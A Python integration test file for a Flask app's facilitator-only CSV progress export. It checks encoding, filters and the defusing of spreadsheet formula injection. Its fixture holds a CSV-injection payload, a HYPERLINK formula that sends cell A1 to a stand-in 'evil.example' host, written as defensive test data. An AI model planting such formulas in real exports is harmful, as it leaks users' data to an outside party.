"""The CSV export through real launches: the bytes Excel needs, names intact, formulas defused,
the page's filters applied, and only for facilitators."""

from __future__ import annotations

from datetime import UTC, datetime

from babel.dates import get_timezone
from flask import Flask

from tests.fake_platform import FakePlatform
from tests.integration.course_progress.progress_pages import (
    LISTENING,
    SCALING,
    add_roster_only,
    assign,
    complete,
    csv_lines,
    see,
)
from tests.integration.mentoring_web.test_privacy_helpers import launch_as

HEADER = ["Name", "Email", "Roster status", "Launched the tool", "Last activity"]
EVIL = {
    "sub": "csv-injection-1",
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "given_name": "=HYPERLINK",
    "family_name": "Evil",
    "email": "+evil@example.org",
}


def _course(app: Flask, platform: FakePlatform):
    amelie = launch_as(app, platform, "amelie")
    assign(amelie, (LISTENING.slug, False, ""), (SCALING.slug, True, ""))
    jean = launch_as(app, platform, "jean-francois")
    complete(jean, SCALING)
    zoe = launch_as(app, platform, "zoe")
    see(zoe, LISTENING, 1)
    launch_as(app, platform, "priya", EVIL)
    add_roster_only(app, platform, "roster-only-csv", "-Ève Lavoie", email="@eve@example.org")
    return amelie


def test_the_export_is_utf8_with_bom_crlf_and_one_column_per_assigned_module(
    app: Flask, fake_platform: FakePlatform
) -> None:
    amelie = _course(app, fake_platform)
    response = amelie.get("progress/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    # Dates are the reader's local ones (the app's time zone), in the file name too.
    zone = get_timezone(app.config["BABEL_DEFAULT_TIMEZONE"])
    today = datetime.now(UTC).astimezone(zone).date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="progress-MFA-DEMO-{today}.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbfName,Email,")
    assert b"\n" not in body.replace(b"\r\n", b"")  # every line ends with CRLF, nothing bare
    assert "Jean-François Côté".encode() in body
    assert "Zoë O'Connor".encode() in body

    lines = csv_lines(response)
    assert lines[0] == [*HEADER, SCALING.title, LISTENING.title]  # required first
    by_email = {line[1]: line for line in lines[1:]}
    assert by_email["jean-francois.cote@example.org"] == [
        "Jean-François Côté",
        "jean-francois.cote@example.org",
        "Active",
        "yes",
        today,
        "Submitted",
        "Not started",
    ]
    zoe = by_email["zoe.oconnor@example.org"]
    assert zoe[0] == "Zoë O'Connor"
    assert zoe[5:] == ["Not started", "In progress"]
    never = by_email["'@eve@example.org"]
    assert never[:5] == ["'-Ève Lavoie", "'@eve@example.org", "Active", "no", ""]
    assert "Priya Singh" not in body.decode("utf-8-sig")  # Priya launched under another sub
    assert len(lines) == 1 + 4


def test_formulas_in_names_and_emails_are_neutralised(
    app: Flask, fake_platform: FakePlatform
) -> None:
    amelie = _course(app, fake_platform)
    lines = csv_lines(amelie.get("progress/export.csv"))
    evil = next(line for line in lines if "HYPERLINK" in line[0])
    assert evil[0] == "'" + EVIL["name"]
    assert evil[1] == "'+evil@example.org"
    for line in lines:
        for value in line:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_the_export_applies_the_pages_filters_search_and_order(
    app: Flask, fake_platform: FakePlatform
) -> None:
    amelie = _course(app, fake_platform)
    page = amelie.get(f"progress/?q=cote&module={SCALING.slug}&state=submitted")
    html = page.get_data(as_text=True)
    link = f"progress/export.csv?q=cote&amp;module={SCALING.slug}&amp;state=submitted"
    assert link in html
    only = csv_lines(amelie.get(link.replace("&amp;", "&")))
    assert [line[0] for line in only[1:]] == ["Jean-François Côté"]
    never = csv_lines(amelie.get("progress/export.csv?launched=never"))
    assert [line[0] for line in never[1:]] == ["'-Ève Lavoie"]
    newest = csv_lines(amelie.get("progress/export.csv?sort=submitted&order=desc"))
    assert newest[1][0] == "Jean-François Côté"
    assert len(newest) == 5  # every page: the export is not cut at 50


def test_an_export_without_assigned_modules_has_the_person_columns_only(
    app: Flask, fake_platform: FakePlatform
) -> None:
    amelie = launch_as(app, fake_platform, "amelie")
    launch_as(app, fake_platform, "zoe")
    lines = csv_lines(amelie.get("progress/export.csv"))
    assert lines[0] == HEADER
    assert [line[0] for line in lines[1:]] == ["Zoë O'Connor"]
